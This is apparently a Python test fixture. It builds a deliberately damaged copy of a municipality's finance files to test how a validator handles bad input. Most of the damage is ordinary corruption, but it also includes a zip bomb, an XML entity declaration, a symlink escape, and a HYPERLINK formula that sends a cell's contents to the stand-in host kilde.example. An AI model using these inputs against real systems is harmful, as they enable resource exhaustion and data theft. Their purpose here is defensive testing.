"""The example municipality with everything that can be wrong with a file, each thing in a file of its own."""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
from tests.shared import EXAMPLE

BANK = "bank/09990004711001"


def zip_bomb() -> bytes:
    """150 MB of blanks in 150 kB."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", b" " * 150_000_000)
    return content.getvalue()


def damaged(folder: Path) -> Path:
    """A copy of the example, damaged."""
    shutil.copytree(EXAMPLE, folder, copy_function=shutil.copyfile)
    _damage_texts(folder)
    _damage_statements(folder)
    _damage_json(folder)
    _damage_sheets(folder)
    (folder / "noter.docx").write_bytes(b"x")
    return folder


def _replace(path: Path, old: bytes, new: bytes) -> None:
    data = path.read_bytes()
    assert old in data, path
    path.write_bytes(data.replace(old, new, 1))


def _damage_texts(folder: Path) -> None:
    card = folder / "card"
    _replace(card / "2026-09-02.csv", b"TRL;9;3.493,18", b"TRL;9;3.493,19")
    _replace(card / "2026-09-03.csv", b"BAT;", "BÅT;".encode())
    (card / "2026-09-04.csv").write_bytes((card / "2026-09-04.csv").read_bytes()[:100])
    _replace(card / "2026-09-07.csv", b"BAT;", b"BAT;99999999;06-09-2026;1;1;1,00;0,00;1,00\r\nBAT;")
    _replace(folder / "mobilepay/2026-09-03.csv", b";0,75;", b";0,7501;")
    (folder / "mobilepay/2026-09-04.csv").write_bytes(b"")
    ledger = folder / "ledger/2026-09.txt"
    ledger.write_bytes(
        ledger.read_bytes() + b"Konto\t9-22-01-9999\tKasse 9999\r\nPrimosaldo\t0,00\r\nUltimosaldo\t5,00\r\n"
    )


def _damage_statements(folder: Path) -> None:
    bank = folder / BANK
    (bank / "2026-09-10.xml").unlink()
    _replace(bank / "2026-09-16.xml", b'<Amt Ccy="DKK">', b'<Amt Ccy="DKK">1')
    _replace(bank / "2026-09-18.xml", b"?>", b'?><!DOCTYPE d [<!ENTITY e "x">]>')
    (bank / "2026-09-21.xml").write_bytes((bank / "2026-09-21.xml").read_bytes()[:500])


def _damage_json(folder: Path) -> None:
    def change(path: Path, how: Callable[[Any], object]) -> None:
        content = json.loads(path.read_text(encoding="utf-8"))
        how(content)
        path.write_text(json.dumps(content), encoding="utf-8")

    change(folder / "pos/0335/2026-09.json", lambda page: page["items"].append(page["items"][0] | {"cash_in": "1.00"}))
    change(folder / "pos/0581/2026-09.json", lambda page: page["items"][0].update(business_date="2026-07-01"))
    change(folder / "pos/1173/2026-09.json", lambda page: page["items"][1].update(cash_in="8.8501"))
    change(folder / "vouchers/2026-09.json", lambda vouchers: vouchers[0].update(register="9999"))


def _damage_sheets(folder: Path) -> None:
    def put(name: str, column: str, value: str) -> None:
        path = folder / "counts" / name
        book = openpyxl.load_workbook(path)
        sheet: Any = book[book.sheetnames[0]]
        header = next(cell for row in sheet.iter_rows() for cell in row if str(cell.value).strip() == column)
        sheet.cell(header.row + 1, header.column, value)
        book.save(path)

    counts = folder / "counts"
    put("0673_2026-09.xlsx", "Optalt i alt", "1.234")
    put("0729_2026-09.xlsx", "Dato", "05-11-2026")
    put("1420_2026-09.xlsx", "Bemærkning", '=HYPERLINK("http://kilde.example/?"&A1;"se her")')
    (counts / "1229_2026-09.xlsx").write_bytes(zip_bomb())
    with (counts / "1286_2026-09.xlsx").open("wb") as file:
        file.truncate(200_000_000)
    (counts / "1322_2026-09.xlsx").unlink()
    (counts / "1322_2026-09.xlsx").symlink_to(EXAMPLE / "counts" / "1322_2026-09.xlsx")
    (counts / "~$1420_2026-09.xlsx").write_bytes(b"\x05Prove" + b" " * 49)
    (counts / "1608_2026-09.xlsx").write_bytes(b"\0" * 4096)
    shutil.copyfile(counts / "0250_2026-09.xlsx", counts / "9999_2026-09.xlsx")
